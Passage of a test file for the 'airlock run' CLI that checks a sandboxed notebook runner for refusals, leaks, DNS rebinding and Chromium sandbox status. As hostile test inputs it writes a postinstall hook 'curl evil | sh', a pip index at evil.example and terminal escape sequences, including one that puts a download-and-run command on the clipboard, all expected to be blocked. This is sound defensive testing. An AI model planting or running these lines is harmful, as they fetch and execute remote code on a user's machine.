/**
 * `airlock run`, the headless runner: the built app in Chromium driven by the CLI, on the real
 * data, with its exit codes for every outcome.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { spawn, spawnSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  realpathSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { sealBundle } from '../../src/lib/bundle/index.ts';
import { formatIdentityFile, generateOwnerKey, generateSshKey, type OwnerKey } from '../../src/lib/crypto/index.ts';
import { verifyReceipt } from '../../src/lib/receipt/index.ts';
import { diabetesCsvPath } from '../unit/fixtures/data.ts';
import { notebookJson } from './fixtures.ts';
import { findChromium, startStaticServer } from './harness.ts';

const BIN = resolve(import.meta.dirname, '../../bin/airlock.mjs');
let dir: string;
let csv: string;
let owner: OwnerKey;
const expert = generateSshKey('expert');
const ownerSign = generateSshKey('owner');

interface Ran {
  code: number;
  stdout: string;
  stderr: string;
}

function airlock(args: string[]): Promise<Ran> {
  return airlockLive(args).done;
}

/**
 * `airlock` as a child process, watched while it runs. `as` puts a command in front (to run it as
 * another user); `pid` is the root of its process tree (the prefixes exec, they do not fork).
 */
function airlockLive(args: string[], opts: { as?: string[]; cwd?: string; env?: Record<string, string> } = {}) {
  const [cmd, ...pre] = [...(opts.as ?? []), process.execPath, BIN, ...args];
  const p = spawn(cmd!, pre, { cwd: opts.cwd ?? dir, env: { ...process.env, ...opts.env } });
  let stdout = '';
  let stderr = '';
  const waiters: Array<{ text: string; found: () => void }> = [];
  p.stdout.on('data', (d) => {
    stdout += d;
    for (const w of waiters) if (stdout.includes(w.text)) w.found();
  });
  p.stderr.on('data', (d) => (stderr += d));
  const done = new Promise<Ran>((r) => p.on('close', (code) => r({ code: code ?? -1, stdout, stderr })));
  return {
    pid: p.pid!,
    done,
    /** Resolves when stdout shows `text`; fails if the command ends first. */
    waitFor: (text: string) =>
      Promise.race([
        new Promise<void>((found) => waiters.push({ text, found })),
        done.then((r) => {
          if (!r.stdout.includes(text)) throw new Error(`ended (${r.code}) before "${text}":\n${r.stdout}${r.stderr}`);
        }),
      ]),
  };
}

// ---- What another local process can see of a running `airlock run`, read from /proc ----

/** `root` and every process below it. */
function processTree(root: number): number[] {
  const children = new Map<number, number[]>();
  for (const p of readdirSync('/proc').filter((x) => /^\d+$/.test(x))) {
    try {
      const ppid = Number(/^PPid:\s+(\d+)/m.exec(readFileSync(`/proc/${p}/status`, 'utf8'))![1]);
      children.set(ppid, [...(children.get(ppid) ?? []), Number(p)]);
    } catch {
      /* ended meanwhile */
    }
  }
  const tree: number[] = [];
  for (const queue = [root]; queue.length;) {
    const p = queue.pop()!;
    tree.push(p);
    queue.push(...(children.get(p) ?? []));
  }
  return tree;
}

/**
 * Every socket a process tree offers to other processes: TCP ports in LISTEN, bound UDP ports, and
 * listening Unix sockets (by path, or `@name` for the abstract ones, which have no permissions),
 * found through the sockets each process holds open, in its own network namespace.
 */
function listeningSockets(pids: number[]) {
  const found = { tcp: new Set<number>(), udp: new Set<number>(), unix: new Set<string>() };
  for (const pid of pids) {
    const inodes = new Set<string>();
    try {
      for (const fd of readdirSync(`/proc/${pid}/fd`)) {
        const m = /^socket:\[(\d+)\]$/.exec(readlinkSafe(`/proc/${pid}/fd/${fd}`));
        if (m) inodes.add(m[1]!);
      }
    } catch {
      continue;
    }
    const rows = (table: string) => {
      try {
        return readFileSync(`/proc/${pid}/net/${table}`, 'utf8')
          .split('\n')
          .slice(1)
          .map((l) => l.trim().split(/\s+/));
      } catch {
        return [];
      }
    };
    for (const t of ['tcp', 'tcp6'])
      for (const c of rows(t))
        if (c[3] === '0A' && inodes.has(c[9]!)) found.tcp.add(parseInt(c[1]!.split(':')[1]!, 16));
    for (const t of ['udp', 'udp6'])
      for (const c of rows(t)) if (inodes.has(c[9]!)) found.udp.add(parseInt(c[1]!.split(':')[1]!, 16));
    for (const c of rows('unix'))
      if ((parseInt(c[3]!, 16) & 0x10000) !== 0 && inodes.has(c[6]!)) found.unix.add(c[7] ?? '(unnamed)');
  }
  // Who may connect to a Unix socket by path is decided by its folder, read now while it exists.
  const unix = [...found.unix].map((path) => {
    try {
      const { uid, mode } = statSync(join(path, '..'));
      return { path, folderUid: uid, folderMode: mode & 0o777 };
    } catch {
      return { path, folderUid: -1, folderMode: -1 };
    }
  });
  return { tcp: [...found.tcp], udp: [...found.udp], unix };
}

function readlinkSafe(p: string): string {
  try {
    return readlinkSync(p);
  } catch {
    return '';
  }
}

function get(port: number, path: string, host: string): Promise<{ status: number; body: Buffer }> {
  return new Promise((done) => {
    const req = request({ host: '127.0.0.1', port, path, headers: { host }, timeout: 5000 }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => done({ status: res.statusCode ?? 0, body: Buffer.concat(chunks) }));
    });
    req.on('error', () => done({ status: 0, body: Buffer.alloc(0) }));
    req.on('timeout', () => req.destroy());
    req.end();
  });
}

/**
 * What another local process, or a web page that rebinds its own name to 127.0.0.1, gets from every
 * TCP port the tree listens on: the paths today's runner used and the root, with the port's own host
 * and with a foreign one. Returns the answers that carry any of `secrets`.
 */
async function probeForSecrets(pids: number[], secrets: Buffer[]) {
  const leaks: string[] = [];
  for (const port of listeningSockets(pids).tcp)
    for (const host of [`127.0.0.1:${port}`, `rebound.example:${port}`])
      for (const path of ['/__run/table/0', '/__run/bundle', '/']) {
        const r = await get(port, path, host);
        if (secrets.some((s) => r.body.includes(s))) leaks.push(`${host}${path} → ${r.status}, ${r.body.length} bytes`);
      }
  return leaks;
}

/**
 * Files under Chromium's profile folders (`--user-data-dir`) in the tree that hold any of `secrets`.
 * A canary holding the last secret is planted first, so the search is shown to find what is there.
 */
function profileCopies(pids: number[], secrets: Buffer[]): string[] {
  const dirs = new Set<string>();
  for (const pid of pids)
    for (const a of readFileSafe(`/proc/${pid}/cmdline`).split(/[\0 ]+/))
      if (a.startsWith('--user-data-dir=')) dirs.add(a.slice('--user-data-dir='.length));
  expect(dirs.size, 'no profile folder found').toBeGreaterThan(0);
  const canary = join([...dirs][0]!, 'airlock-test-canary');
  writeFileSync(canary, Buffer.concat([Buffer.from('x'), secrets.at(-1)!]));
  const hits: string[] = [];
  for (const d of dirs)
    for (const f of readdirSync(d, { recursive: true, encoding: 'utf8' })) {
      let bytes: Buffer;
      try {
        bytes = readFileSync(join(d, f));
      } catch {
        continue; // a folder, or gone
      }
      if (secrets.some((x) => bytes.includes(x))) hits.push(join(d, f));
    }
  expect(hits, 'the search missed its canary').toContain(canary);
  return hits.filter((h) => h !== canary);
}

function readFileSafe(p: string): string {
  try {
    return readFileSync(p, 'utf8');
  } catch {
    return '';
  }
}

/** Chromium's renderers in a process tree, and whether the OS sandbox holds each. */
function renderers(pids: number[]) {
  const ownPidNs = readlinkSafe('/proc/self/ns/pid');
  return pids.flatMap((pid) => {
    let cmdline: string;
    let status: string;
    try {
      cmdline = readFileSync(`/proc/${pid}/cmdline`, 'utf8');
      status = readFileSync(`/proc/${pid}/status`, 'utf8');
    } catch {
      return [];
    }
    // Zygote children rewrite their title: one string with spaces, not NUL-separated arguments.
    const args = cmdline.split(/[\0 ]+/);
    if (!args.includes('--type=renderer')) return [];
    return [
      {
        pid,
        /** 2: a seccomp-bpf filter is on (Chromium's syscall sandbox); 0: none. */
        seccomp: Number(/^Seccomp:\s+(\d+)/m.exec(status)?.[1]),
        noSandboxFlag: args.includes('--no-sandbox'),
        ownPidNamespace: readlinkSafe(`/proc/${pid}/ns/pid`) !== ownPidNs,
      },
    ];
  });
}

async function bundle(
  file: string,
  cells: string[],
  opts: { recipient?: string; signer?: typeof expert; tables?: string[]; outputs?: string[] } = {},
) {
  const { stream } = await sealBundle({
    recipient: opts.recipient ?? owner.recipient,
    signer: (opts.signer ?? expert).key,
    name: 'readmission',
    version: '1.0',
    notebook: { filename: 'n.ipynb', bytes: new TextEncoder().encode(notebookJson(cells)) },
    wheels: [],
    outputs: opts.outputs ?? ['model.json'],
    tables: opts.tables ?? ['ehr'],
  });
  writeFileSync(join(dir, file), new Uint8Array(await new Response(stream).arrayBuffer()));
  return file;
}

const run = (b: string, out: string, extra: string[] = []) =>
  airlock([
    'run',
    '-i',
    'owner.key',
    '--bundle',
    b,
    '--table',
    `ehr=${csv}`,
    '-o',
    out,
    '--expert',
    'expert.pub',
    ...extra,
  ]);
const MODEL =
  'import airlock, json\nt = airlock.table("ehr")\nprint(len(t), "rows")\nopen(airlock.OUTPUT_DIR + "/model.json", "w").write(json.dumps({"n": len(t)}))';

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'airlock-run-'));
  csv = diabetesCsvPath();
  owner = await generateOwnerKey();
  writeFileSync(join(dir, 'owner.key'), formatIdentityFile(owner));
  writeFileSync(join(dir, 'expert.pub'), expert.publicKey);
  writeFileSync(join(dir, 'owner_sign'), ownerSign.privateKey, { mode: 0o600 });
});

describe('airlock run --room-backup: the rooms of the app, key files no more', () => {
  test("a room from the app's backup runs with its own policy, experts and receipt key; other signers and ambiguous backups are refused", async () => {
    const { sealBackup } = await import('../../src/lib/rooms/index.ts');
    const { receiptKeyFile } = await import('../../src/lib/rooms/backup.ts');
    const { fingerprint, formatPublicKey } = await import('../../src/lib/crypto/index.ts');
    const { ed25519 } = await import('@noble/curves/ed25519.js');
    const seed = ed25519.utils.randomSecretKey();
    const receipt = { seed, publicKey: ed25519.getPublicKey(seed), comment: 'airlock-receipt' };
    const other = await generateOwnerKey();
    const roomOf = (name: string, key: OwnerKey) => ({
      name,
      created: new Date().toISOString(),
      identity: key.identity,
      recipient: key.recipient,
      receiptKey: receiptKeyFile(receipt),
      policy: { timeLimitSeconds: 123, maxOutputBytes: 1_000_000 },
      experts: [{ fingerprint: fingerprint(expert.key.publicKey), name: 'readmission expert', pinnedAt: 1 }],
      grants: ['ehr'],
    });
    const PASS = 'correct horse battery staple';
    writeFileSync(join(dir, 'one.age'), await sealBackup([roomOf('Readmission', owner)], PASS, { workFactor: 10 }));
    writeFileSync(
      join(dir, 'two.age'),
      await sealBackup([roomOf('Readmission', owner), roomOf('Sepsis', other)], PASS, { workFactor: 10 }),
    );
    writeFileSync(join(dir, 'small.csv'), 'patient_nbr,readmitted\n11,NO\n12,<30\n13,NO\n');
    const env = { AIRLOCK_PASSPHRASE: PASS };
    const args = (backup: string, b: string, out: string, extra: string[] = []) => [
      'run',
      '--room-backup',
      backup,
      '--bundle',
      b,
      '--table',
      'ehr=small.csv',
      '-o',
      out,
      ...extra,
    ];
    const good = await bundle('rb.airlock', [MODEL]);
    const ok = await airlockLive(args('one.age', good, 'rb-out', ['--approve']), { env }).done;
    expect(ok.stderr).not.toContain(PASS);
    expect(ok.code).toBe(0);
    const r = verifyReceipt(
      readFileSync(join(dir, 'rb-out', 'receipt.json')),
      readFileSync(join(dir, 'rb-out', 'receipt.json.sig'), 'utf8'),
      { owner: formatPublicKey(receipt.publicKey) },
    );
    expect(r.policy).toMatchObject({ timeLimitSeconds: 123, maxOutputBytes: 1_000_000 });
    expect(r.tables).toMatchObject([{ name: 'ehr', rows: 3 }]);

    // The room trusts one expert: a bundle signed by anyone else is refused, nothing runs.
    const stranger = await bundle('rb-stranger.airlock', [MODEL], { signer: generateSshKey('stranger') });
    const refused = await airlockLive(args('one.age', stranger, 'rb-out2'), { env }).done;
    expect(refused.code).toBe(3);
    expect(refused.stderr).toContain('not by an expert this room trusts');
    // A backup of two rooms needs --room; with it, that room runs.
    const ambiguous = await airlockLive(args('two.age', good, 'rb-out3'), { env }).done;
    expect(ambiguous.code).toBe(3);
    expect(ambiguous.stderr).toContain('choose one with --room NAME');
    const chosen = await airlockLive(args('two.age', good, 'rb-out4', ['--room', 'Readmission']), { env }).done;
    expect(chosen.code).toBe(0);
    // The wrong passphrase: refused before anything runs.
    const wrong = await airlockLive(args('one.age', good, 'rb-out5'), { env: { AIRLOCK_PASSPHRASE: 'not it at all' } })
      .done;
    expect(wrong.code).toBe(3);
    expect(wrong.stderr).toContain('the passphrase does not open this backup');
  });
});

describe('airlock run', () => {
  test('approved: the outputs and a receipt the expert can verify; nothing else', async () => {
    const b = await bundle('ok.airlock', [MODEL, 'open("/tmp/elsewhere.txt", "w").write("x")']);
    const r = await run(b, 'out-ok', ['--approve', '--sign', 'owner_sign']);
    expect(r.code, r.stderr + r.stdout).toBe(0);
    expect(r.stdout).toContain('101766 rows');
    expect(r.stdout).toContain('gate: passed');
    expect(readdirSync(join(dir, 'out-ok')).sort()).toEqual(['model.json', 'receipt.json', 'receipt.json.sig']);
    const { readFileSync } = await import('node:fs');
    const receipt = verifyReceipt(
      readFileSync(join(dir, 'out-ok/receipt.json')),
      readFileSync(join(dir, 'out-ok/receipt.json.sig'), 'utf8'),
      { owner: ownerSign.publicKey },
    );
    expect(receipt.tables[0]).toMatchObject({ as: 'ehr', rows: 101_766 });
    expect(receipt.outputs.map((o) => o.path)).toEqual(['model.json']);
  });

  test('not approved: nothing leaves; --json for machines', async () => {
    const r = await run('ok.airlock', 'out-none', ['--json']);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({
      ok: true,
      exitCode: 0,
      status: 'ok',
      gate: { pass: true },
      written: [],
    });
    expect(existsSync(join(dir, 'out-none'))).toBe(false);
  });

  // Independent runs, two at a time (the browser project's maxConcurrency): each is its own process.
  test.concurrent.for([
    ['a notebook that raises', ['raise ValueError("no convergence")'], [], 4, 'ValueError: no convergence'],
    [
      'a notebook that never ends',
      ['while True:\n    pass'],
      ['--timeout', '8'],
      6,
      'did not finish within the time limit',
    ],
    [
      'an output that carries patient numbers',
      [
        'import airlock, json\nopen(airlock.OUTPUT_DIR + "/model.json", "w").write(json.dumps(list(airlock.table("ehr").column("patient_nbr"))[:20]))',
      ],
      ['--approve', '--sign', 'owner_sign'],
      5,
      'identifying columns (ehr.patient_nbr)',
    ],
    [
      'an output over the cap',
      ['import airlock\nopen(airlock.OUTPUT_DIR + "/model.json", "wb").write(b"0" * 2_000_000)'],
      ['--max-output', '1MB'],
      4,
      'larger than the cap',
    ],
  ] as const)('%s', async ([, cells, extra, code, message], { expect }) => {
    const b = await bundle(`b${code}.airlock`, [...cells]);
    const r = await run(b, `out-${code}`, [...extra]);
    expect(r.code, r.stdout + r.stderr).toBe(code);
    expect(r.stdout + r.stderr).toContain(message);
    expect(existsSync(join(dir, `out-${code}`))).toBe(false);
  });

  test('bad input: another room, another signer, a missing table', async () => {
    const other = await generateOwnerKey();
    const r1 = await run(await bundle('other-room.airlock', [MODEL], { recipient: other.recipient }), 'o1');
    expect(r1.code).toBe(3);
    expect(r1.stderr).toContain('sealed for another room');
    const r2 = await run(await bundle('other-signer.airlock', [MODEL], { signer: generateSshKey('mallory') }), 'o2');
    expect(r2.code).toBe(3);
    expect(r2.stderr).toContain('not by the expert you trust');
    const r3 = await run(await bundle('needs-labs.airlock', [MODEL], { tables: ['ehr', 'labs'] }), 'o3');
    expect(r3.code).toBe(3);
    expect(r3.stderr).toContain('there is no local table "labs"');
  });
});

/** What a terminal would obey or a reader be misled by: C0 but newline and tab, DEL, C1, bidi and zero-width controls. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/;

describe("airlock run: the owner's terminal and disk", () => {
  // A small table with no identifying column, so the outputs below pass the gate on content.
  const SMALL = 'age,readmitted\n50,NO\n50,NO\n60,YES\n60,NO\n';
  const runSmall = (b: string, out: string, extra: string[] = []) =>
    airlock([
      'run',
      '-i',
      'owner.key',
      '--bundle',
      b,
      '--table',
      'ehr=small.csv',
      '-o',
      out,
      '--expert',
      'expert.pub',
      ...extra,
    ]);
  const approve = ['--approve', '--sign', 'owner_sign'];
  /** A notebook cell that writes each file (path → text) into the output folder. */
  const writes = (files: Record<string, string>) =>
    `import airlock, os\nfor p, t in ${JSON.stringify(files)}.items():\n    f = os.path.join(airlock.OUTPUT_DIR, p)\n    os.makedirs(os.path.dirname(f), exist_ok=True)\n    open(f, "w").write(t)`;
  const tree = (d: string): string[] =>
    readdirSync(d, { recursive: true, withFileTypes: true })
      .map((e) => join(e.parentPath, e.name).slice(d.length + 1))
      .sort();

  beforeAll(() => writeFileSync(join(dir, 'small.csv'), SMALL));

  // Python source: each \\x.. below reaches Python as an escape, so the notebook prints the real bytes.
  const HOSTILE_PRINTS = [
    'import sys',
    'print("\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07clipboard")',
    'print("\\x1b]0;airlock: gate passed\\x07title")',
    'print("\\x1b[8m")',
    'print("run: ok\\r\\x1b[2K\\x1b[1Agate: passed")',
    'print("c1 \\u009b8m bidi model\\u202egnp.exe zw \\u200b del \\x7f")',
    'sys.stderr.write("\\x1b[8mtripwires: none\\n")',
    'print("gate: passed")',
  ].join('\n');

  test('the notebook cannot drive the terminal or pass for the report: every control shown, every line marked', async () => {
    // The bundle declares model.json but the notebook writes other.json: the real gate blocks it.
    const b = await bundle('terminal.airlock', [HOSTILE_PRINTS, writes({ 'other.json': '{}' })], {
      outputs: ['model.json'],
    });
    const r = await runSmall(b, 'out-term');
    expect(r.code, r.stdout + r.stderr).toBe(5);
    expect(r.stdout + r.stderr).not.toMatch(RAW_CONTROL);
    // Positive control: the notebook did print them, now as escapes.
    expect(r.stdout).toContain('│ \\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007clipboard');
    expect(r.stdout).toContain('│ \\u001b]0;airlock: gate passed\\u0007title');
    expect(r.stdout).toContain('│ run: ok\\u000d\\u001b[2K\\u001b[1Agate: passed');
    expect(r.stdout).toContain('│ c1 \\u009b8m bidi model\\u202egnp.exe zw \\u200b del \\u007f');
    expect(r.stderr).toContain('│ \\u001b[8mtripwires: none');
    // The only line that says what the gate did is the runner's own.
    const lines = r.stdout.split('\n');
    expect(lines.filter((l) => l.startsWith('gate:'))).toEqual(['gate: blocked']);
    expect(lines).toContain('│ gate: passed');

    // --json: valid JSON with nothing raw, which parses back to exactly what the notebook printed.
    const j = await runSmall(b, 'out-term', ['--json']);
    expect(j.stdout).not.toMatch(RAW_CONTROL);
    const logs = JSON.parse(j.stdout).logs.map((l: { text: string }) => l.text);
    expect(logs).toContain('c1 \u009b8m bidi model\u202egnp.exe zw \u200b del \x7f');
    expect(logs).toContain('\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07clipboard');
  });

  test("a project folder: refused before the run; with --force the owner's files are still never replaced", async () => {
    const proj = join(dir, 'project');
    mkdirSync(join(proj, '.vscode'), { recursive: true });
    writeFileSync(join(proj, 'package.json'), '{"name":"mine","scripts":{}}\n');
    writeFileSync(join(proj, 'requirements.txt'), 'numpy==2.0\n');
    writeFileSync(join(proj, '.vscode/settings.json'), '{}\n');
    const before = tree(proj);
    const contents = () =>
      ['package.json', 'requirements.txt', '.vscode/settings.json'].map((p) => readFileSync(join(proj, p), 'utf8'));
    const original = contents();
    const b = await bundle(
      'project.airlock',
      [
        writes({
          'package.json': '{"scripts":{"postinstall":"curl evil | sh"}}',
          'requirements.txt': '--index-url https://evil.example/simple\nnumpy',
        }),
      ],
      { outputs: [] },
    );
    const refused = await runSmall(b, 'project', approve);
    expect(refused.code, refused.stdout + refused.stderr).toBe(7);
    expect(refused.stderr).toContain('is not empty');
    expect(refused.stdout).not.toContain('gate:'); // refused before anything ran
    const forced = await runSmall(b, 'project', [...approve, '--force']);
    expect(forced.code, forced.stdout + forced.stderr).toBe(7);
    expect(forced.stderr).toContain('already holds package.json, requirements.txt');
    expect(tree(proj)).toEqual(before);
    expect(contents()).toEqual(original);
  });

  test('outputs that would run when the folder is opened, pass for the receipt, or not fit the disk: refused, nothing written', async () => {
    // One run with all three; planExport checks every name (tests/unit/export.test.ts has each alone).
    const hazards = {
      '.vscode/tasks.json': '{"tasks":[]}',
      'receipt.json': '{"forged":true}',
      ['é'.repeat(130) + '.json']: '{}',
    };
    const b = await bundle('disk.airlock', [writes({ 'model.json': '{}', ...hazards })], { outputs: [] });
    const r = await runSmall(b, 'out-disk', approve);
    expect(r.code, r.stdout + r.stderr).toBe(7);
    expect(r.stdout).toContain('gate: passed'); // the gate had nothing against it; the disk writer refused
    expect(r.stderr).toMatch(/\.vscode|the receipt's own name|over 255 bytes/); // whichever comes first
    expect(r.stderr).toContain('(and 2 more outputs)');
    expect(r.stderr).toContain('nothing was written');
    expect(existsSync(join(dir, 'out-disk'))).toBe(false);
    expect(readdirSync(dir).filter((n) => n.startsWith('.airlock-export-'))).toEqual([]);
  });
});

// ---- The doors around the sandbox: what reaches the page, and the browser's own sandbox ----

/** A notebook that says when to look and then keeps the run alive, with the table and bundle loaded. */
const SLEEP = 'import time\nprint("probe now")\nt = time.time()\nwhile time.time() - t < 10:\n    pass';
const runArgs = (b: string, out: string, table = csv) => [
  'run',
  '-i',
  'owner.key',
  '--bundle',
  b,
  '--table',
  `ehr=${table}`,
  '-o',
  out,
  '--expert',
  'expert.pub',
];
const ROOT_WARNING = "Chromium's own sandbox is off because airlock runs as root";
const NONE_WARNING = "Chromium's own sandbox is off because it could not start on this system";
const NOBODY = ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups'];
let sleepy: Promise<string> | undefined;
const sleepyBundle = () => (sleepy ??= bundle('sleepy.airlock', [SLEEP, MODEL]));

const SECRET_NAMES = ["the owner's key", 'a row of the table', 'a slice of the bundle'];

/** The owner's key, a row of the table and a slice of the bundle: none may be readable outside the page. */
function secrets(bundleFile: string): Buffer[] {
  const key = /^AGE-SECRET-KEY-1\w+$/m.exec(formatIdentityFile(owner))![0];
  const row = readFileSync(csv, 'utf8').split('\n')[1]!;
  const b = readFileSync(join(dir, bundleFile));
  return [Buffer.from(key), Buffer.from(row), b.subarray(b.length >> 1, (b.length >> 1) + 64)];
}

/** Watches a run while its notebook sleeps: its process tree, sockets, what they give away, its renderers. */
async function watchRun(live: ReturnType<typeof airlockLive>, bundleFile: string) {
  await live.waitFor('probe now');
  const tree = processTree(live.pid);
  const sockets = listeningSockets(tree);
  const leaks = await probeForSecrets(tree, secrets(bundleFile));
  const copies = profileCopies(tree, secrets(bundleFile));
  const seen = renderers(tree);
  const r = await live.done;
  expect(r.code, r.stdout + r.stderr.slice(-3000)).toBe(0);
  expect(r.stdout).toContain('101766 rows');
  // The walk reached Chromium: without renderers the other checks would prove nothing.
  expect(seen.length).toBeGreaterThan(0);
  // Nor is there a copy on disk: the context is off the record, its storage in memory.
  expect(copies).toEqual([]);
  return { r, sockets, leaks, seen };
}

/** No TCP or UDP port at all; Unix sockets only by path, in a folder no other user can enter. */
function expectNothingListening(sockets: ReturnType<typeof listeningSockets>, uid: number) {
  expect(sockets.tcp).toEqual([]);
  expect(sockets.udp).toEqual([]);
  for (const u of sockets.unix) {
    expect(u.path.startsWith('/'), `abstract or unnamed listening socket ${u.path}`).toBe(true);
    expect(u, u.path).toMatchObject({ folderUid: uid, folderMode: 0o700 });
  }
}

describe('airlock run: nothing of the owner reaches anything but the page', () => {
  test('while a run is alive, no socket serves the key, the table or the bundle; no log shows them', async () => {
    const b = await sleepyBundle();
    // Playwright's own protocol log on: the key and the data must not be in any message it carries.
    const live = airlockLive(runArgs(b, 'out-sleepy'), { env: { DEBUG: 'pw:protocol,pw:api,pw:browser' } });
    const { r, sockets, leaks, seen } = await watchRun(live, b);
    expectNothingListening(sockets, process.getuid!());
    expect(leaks).toEqual([]);
    const said = Buffer.from(r.stdout + r.stderr);
    expect(said.length).toBeGreaterThan(100_000); // the protocol log was on
    secrets(b).forEach((s, i) => expect(said.includes(s), `${SECRET_NAMES[i]} is in the output`).toBe(false));
    if (process.getuid?.() === 0) {
      // As root Chromium cannot sandbox itself; the run says so, and the renderers show it.
      expect(r.stderr).toContain(ROOT_WARNING);
      for (const x of seen) expect(x).toMatchObject({ seccomp: 0, noSandboxFlag: true });
    }
  });

  test('control: the same probe finds a loopback server that serves the table as the runner used to', async () => {
    const b = await sleepyBundle();
    // Today's runner, reduced to its door: the table and bundle on fixed paths, any Host.
    const server = spawn(
      process.execPath,
      [
        '-e',
        `const fs = require('fs'), http = require('http');
         const table = fs.readFileSync(process.argv[1]), bundle = fs.readFileSync(process.argv[2]);
         http.createServer((q, s) => s.end(q.url === '/__run/bundle' ? bundle : q.url.startsWith('/__run/table/') ? table : ''))
           .listen(0, '127.0.0.1', () => console.log('listening'));`,
        csv,
        join(dir, b),
      ],
      { stdio: ['ignore', 'pipe', 'inherit'] },
    );
    try {
      await new Promise((r) => server.stdout!.once('data', r));
      const tree = processTree(server.pid!);
      expect(listeningSockets(tree).tcp).toHaveLength(1);
      const leaks = await probeForSecrets(tree, secrets(b));
      // Table and bundle, with the port's own Host and with a rebinding page's.
      expect(leaks).toHaveLength(4);
      expect(leaks.filter((l) => l.includes('rebound.example'))).toHaveLength(2);
    } finally {
      server.kill();
    }
  });

  test('the static server of the tests answers only its own Host (DNS rebinding)', async () => {
    const server = await startStaticServer();
    try {
      const port = Number(new URL(server.origin).port);
      expect((await get(port, '/some/sub/path/', `127.0.0.1:${port}`)).status).toBe(200);
      for (const host of [`rebound.example:${port}`, `localhost:${port}`, '127.0.0.1'])
        expect((await get(port, '/some/sub/path/', host)).status, host).toBe(403);
    } finally {
      await server.close();
    }
  });
});

const madeForOthers: string[] = [];
afterAll(() => madeForOthers.forEach((d) => rmSync(d, { recursive: true, force: true })));

/**
 * How to run `airlock` as an unprivileged user here: as ourselves if we are not root, else as
 * `nobody` (uid 65534) through setpriv, in a folder of its own with copies of the inputs. A string
 * says why it cannot be done.
 */
async function unprivileged(
  name: string,
): Promise<{ as: string[]; cwd: string; env: Record<string, string>; table: string } | string> {
  await sleepyBundle();
  if (process.getuid?.() !== 0) return { as: [], cwd: dir, env: {}, table: csv };
  if (spawnSync('setpriv', ['--version']).status !== 0) return 'setpriv is not installed';
  const cwd = mkdtempSync(join(tmpdir(), `airlock-${name}-`));
  madeForOthers.push(cwd);
  const files = {
    'owner.key': join(dir, 'owner.key'),
    'expert.pub': join(dir, 'expert.pub'),
    'sleepy.airlock': join(dir, 'sleepy.airlock'),
    'ehr.csv': csv,
  };
  for (const [to, from] of Object.entries(files)) {
    copyFileSync(from, join(cwd, to));
    chownSync(join(cwd, to), 65534, 65534);
  }
  chownSync(cwd, 65534, 65534);
  chmodSync(cwd, 0o700);
  const env = { HOME: cwd };
  const probe = spawnSync(NOBODY[0]!, [...NOBODY.slice(1), process.execPath, BIN, '--help'], {
    cwd,
    env: { ...process.env, ...env },
  });
  if (probe.status !== 0)
    return `nobody (uid 65534) cannot run airlock from this checkout: ${String(probe.stderr).split('\n')[0]}`;
  return { as: NOBODY, cwd, env, table: join(cwd, 'ehr.csv') };
}

/**
 * How Chromium can sandbox itself for the user `as` runs as, judged without Chromium: with user, PID
 * and network namespaces, or with a setuid-root `chrome-sandbox` (beside the real binary; Debian's
 * /usr/bin/chromium is a script that starts /usr/lib/chromium/chromium). A string says it cannot.
 */
function sandboxMeans(as: string[]): 'namespaces' | 'setuid' | string {
  const [cmd, ...rest] = [...as, 'unshare', '--user', '--pid', '--net', '--fork', 'true'];
  if (spawnSync(cmd!, rest).status === 0) return 'namespaces';
  const browser = findChromium();
  const helpers = [
    process.env.CHROME_DEVEL_SANDBOX,
    browser && join(realpathSync(browser), '..', 'chrome-sandbox'),
    '/usr/lib/chromium/chrome-sandbox',
  ];
  for (const h of helpers) {
    try {
      const st = statSync(h!);
      if (st.uid === 0 && st.mode & 0o4000) return 'setuid';
    } catch {
      /* not there */
    }
  }
  return 'this system offers Chromium no sandbox for an ordinary user (no user namespaces, no setuid chrome-sandbox)';
}

describe("airlock run: Chromium's own sandbox", () => {
  test('as an ordinary user the renderers run in the OS sandbox (seccomp-bpf, own PID namespace)', async (ctx) => {
    const how = await unprivileged('nobody');
    const means = typeof how === 'string' ? how : sandboxMeans(how.as);
    if (typeof how === 'string' || (means !== 'namespaces' && means !== 'setuid')) {
      console.warn(`skipped: ${means}`);
      return ctx.skip(means);
    }
    const b = 'sleepy.airlock';
    const live = airlockLive(runArgs(b, 'out-nobody', how.table), how);
    const { r, sockets, leaks, seen } = await watchRun(live, b);
    if (means === 'setuid' && r.stderr.includes(NONE_WARNING)) {
      // No namespaces, and the setuid helper is there but cannot work (a container without
      // CAP_SYS_ADMIN): the run went on without the sandbox and said so, which is all it can do.
      const why = 'the setuid chrome-sandbox cannot start here and there are no user namespaces';
      console.warn(`skipped: ${why}`);
      return ctx.skip(why);
    }
    expect(r.stderr).not.toContain("Chromium's own sandbox is off");
    for (const x of seen) expect(x).toMatchObject({ seccomp: 2, noSandboxFlag: false, ownPidNamespace: true });
    expectNothingListening(sockets, how.as.length ? 65534 : process.getuid!());
    expect(leaks).toEqual([]);
  });

  test('where the system offers no sandbox the run goes on without it, and says so', async (ctx) => {
    // A system with neither of the two ways Chromium sandboxes itself: no user namespaces (the limit
    // is 0 inside a namespace of our own) and no setuid helper (no_new_privs), as an ordinary user.
    const how = await unprivileged('nosandbox');
    const why =
      typeof how === 'string'
        ? how
        : process.getuid?.() !== 0
          ? 'needs root to build a system without a sandbox'
          : spawnSync('unshare', ['--user', 'true']).status !== 0
            ? 'cannot make a user namespace here (unshare --user failed or is missing)'
            : undefined;
    if (why || typeof how === 'string') {
      console.warn(`skipped: ${why}`);
      return ctx.skip(why);
    }
    const jail = [
      'unshare',
      '-U',
      'sh',
      '-c',
